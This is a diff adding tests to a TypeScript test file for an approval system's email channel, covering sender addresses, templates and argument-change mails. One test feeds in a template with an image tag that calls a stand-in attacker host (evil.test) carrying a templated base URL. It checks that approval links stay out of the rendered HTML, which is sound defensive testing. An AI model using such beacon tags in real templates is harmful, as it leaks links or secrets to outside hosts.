@@ -1,7 +1,8 @@
 import { describe, expect, test } from "vitest";
 import { exampleCard } from "../testing/example-card.ts";
 import { channelSuite, type ChannelHarness } from "../testing/channel.testsuite.ts";
-import type { EmailSecrets, EmailSettings } from "./schema.ts";
+import { senderOf } from "./connections.ts";
+import { EmailSettings, type EmailSecrets } from "./schema.ts";
 import { openEmailHarness, readTaken, replyTo } from "./testing/open-email-harness.ts";
 
 type Harness = ChannelHarness<EmailSettings, EmailSecrets>;
@@ -75,6 +76,21 @@ describe("asking", () => {
     expect(new Set(mails.map((mail) => header(mail, "reply-to"))).size).toBe(3);
   });
 
+  test("the installation's own mail server sends from its own address, under the channel's name", () => {
+    const ownServer = { server: {} as never, from: "Parley <parley@parley.test>" };
+    const from = (smtp: object | null) =>
+      senderOf({
+        tools: {} as never,
+        setup: {
+          settings: EmailSettings.parse({ from: "Board <ceo@customer.test>", smtp }),
+          secrets: {},
+        },
+        connections: { ownServer, resolveHost: async (host) => host },
+      });
+    expect(from(null)).toBe("Board <parley@parley.test>");
+    expect(from({ host: "mail.customer.test" })).toBe("Board <ceo@customer.test>");
+  });
+
   test.each([
     [{ subject: "Re: Deploy?", in_reply_to_message_id: "<x1@example.org>" }],
     [
@@ -121,6 +137,24 @@ describe("asking", () => {
     expect(html).toContain("<h1>refund</h1><p>list: [1, 2]</p><p>order: &lt;b&gt;7&lt;&#x2f;b&gt;</p>");
     expect(html).toContain('href="https:&#x2f;&#x2f;parley.example&#x2f;approvals&#x2f;apr_1?approve=true"');
     expect(html).toContain("v1beta2.function_call run-1 -");
+  });
+
+  test("a template gets no link by which somebody decides, and what it shows counts as nobody's words but its own", async () => {
+    await using harness = await open();
+    const { channel, setup, place } = harness;
+    const template = `<img src="https://evil.test/?{{ urls.base_url }}">`;
+    const own = "https://parley.example/decide/abc";
+    const posted = await channel.notify(harness.tools(), setup, {
+      card: harness.card(),
+      place,
+      options: { template },
+      linkFor: async () => own,
+    });
+    const { html, text } = await harness.mail();
+    expect(html).not.toContain("decide");
+    expect(text).toContain(own);
+    expect(text).toContain("Approving this one takes the link");
+    expect(posted.showsCard).toBe(false);
   });
 
   test("a template that does not work says so and sends nothing", async () => {
@@ -185,6 +219,18 @@ describe("what became of it", () => {
     expect((await update("blocked for 30 minutes")).keys).toHaveLength(2);
     expect((await harness.mail(1)).text).toContain("blocked for 30 minutes");
   });
+});
+
+test("arguments that were changed while it waits are worth a mail", async () => {
+  await using harness = await open();
+  const { channel, setup, place } = harness;
+  const posted = await harness.notify();
+  const card = harness.card({ args: { order: "A-7", eur: 3000 }, argsHash: "b".repeat(64) });
+  const changed = await channel.update(harness.tools(), setup, { card, place, options: {}, posted });
+  expect((await harness.mail(1)).text).toContain("The arguments have changed");
+  const again = { card, place, options: {}, posted: changed };
+  await channel.update(harness.tools(), setup, again);
+  expect(harness.server.mails).toHaveLength(2);
 });
 
 describe("answers", () => {
